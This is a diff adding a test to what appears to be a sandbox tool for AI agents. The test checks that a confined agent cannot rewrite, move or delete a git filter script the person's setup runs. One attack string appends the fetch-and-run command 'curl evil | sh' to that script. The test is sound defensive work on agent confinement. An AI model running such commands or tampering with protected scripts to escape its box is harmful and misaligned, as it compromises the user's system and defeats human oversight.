@@ -329,3 +329,20 @@ def test_the_broker_never_writes_through_a_link_in_an_agents_git_directory(run: 
     mended = sh(alice, f"rm .git/refs/heads && mv .git/refs/heads-kept .git/refs/heads && rm -f .git/refs/heads/main"
                        f" && git update-ref refs/heads/main {person_head(run)} && git reset -q")  # fmt: skip
     assert mended.returncode == 0, mended.stderr
+
+
+def test_a_protected_path_is_read_only_in_a_box_and_its_directory_cannot_be_moved_aside(tmp_path: Path) -> None:
+    """The attack: rewrite the script the person's filter runs, or rename its directory and put a
+    new one in its place.  Control: the rest of the directory is the agent's to write."""
+    levels = [level for level in ("strict", "landlock") if MACHINE.offers(level) is None]
+    assert levels, "this machine offers no box at all"
+    agents = [{"name": level, "sandbox": level} for level in levels]
+    run = Run(tmp_path, agents, files={"README.md": "x\n", "scripts/clean.sh": "#!/bin/sh\ncat\n", "scripts/notes.txt": "n\n"})
+    subprocess.run(["git", "-C", str(run.repo), "config", "filter.x.clean", "./scripts/clean.sh"], check=True)
+    with run:
+        for level in levels:
+            agent = run.puppet(level)
+            for attack in ("echo 'curl evil | sh' >> scripts/clean.sh", "mv scripts scripts-aside", "rm scripts/clean.sh"):
+                assert agent.sh("sh", "-c", attack).returncode != 0, (level, attack)
+            assert agent.sh("sh", "-c", "echo more >> scripts/notes.txt").returncode == 0, level
+    assert (run.repo / "scripts" / "clean.sh").read_text() == "#!/bin/sh\ncat\n"
